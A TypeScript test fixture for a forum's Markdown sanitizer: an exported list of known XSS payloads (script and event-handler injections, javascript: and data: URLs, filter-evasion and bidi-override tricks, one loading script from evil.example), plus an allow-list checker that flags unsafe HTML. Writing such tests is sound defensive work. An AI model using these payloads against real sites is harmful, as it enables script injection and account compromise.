/**
 * Known script-injection payloads for Markdown renderers (OWASP XSS filter evasion cheat sheet,
 * markdown-it and marked advisories, bidi "Trojan Source" tricks). Shared by the unit test and
 * the forum API test.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click]( javascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '![x](https://example.org/a.png"onerror="alert(1))',
  '[x](https://example.org/"onmouseover="alert(1))',
  '<a href="https://example.org" onclick="alert(1)">x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '`<script>alert(1)</script>` and <script>alert(2)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</script>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '[x](java\tscript:alert(1))',
  '<https://example.org/"onmouseover="alert(1)>',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[y][x]',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "javascript:alert(1)";</style>',
  'file\u202Egnp.exe',
  '\u202Ealert(1)\u202C <b onmouseover=alert(1)>x</b>',
  'abc\u2066\u202E evil \u2069 def',
  '[\u202Etxt.exe](https://example.org/\u202Eexe.txt)',
];

const ALLOWED_TAGS = new Set([
  'p',
  'br',
  'strong',
  'em',
  's',
  'code',
  'pre',
  'blockquote',
  'ul',
  'ol',
  'li',
  'a',
  'hr',
  'h3',
  'h4',
  'h5',
  'h6',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
]);
const ALLOWED_ATTRIBUTES = new Set(['href', 'title', 'rel', 'start']);

/**
 * Why `html` is unsafe, or null: every real tag must be on the allow-list with allowed
 * attributes only, links must be http(s)/mailto, and no bidi override may remain. Escaped text
 * (`&lt;script&gt;`) is inert and passes.
 */
export function unsafeIn(html: string): string | null {
  if (/[\u202A-\u202E\u2066-\u2069]/.test(html)) return 'bidi control';
  for (const [, name = '', attrs = ''] of html.matchAll(/<\/?([A-Za-z][A-Za-z0-9]*)([^>]*)>/g)) {
    if (!ALLOWED_TAGS.has(name.toLowerCase())) return `tag ${name}`;
    let problem: string | null = null;
    const rest = attrs.replace(/\s([a-z-]+)="([^"]*)"/g, (_m, attr: string, value: string) => {
      if (!ALLOWED_ATTRIBUTES.has(attr)) problem = `attribute ${attr}`;
      else if (attr === 'href' && !/^(https?:|mailto:)/i.test(value)) problem = `href ${value}`;
      return '';
    });
    if (problem) return problem;
    if (rest.replace(/\/$/, '').trim() !== '') return `unparsed attributes ${rest}`;
  }
  return null;
}
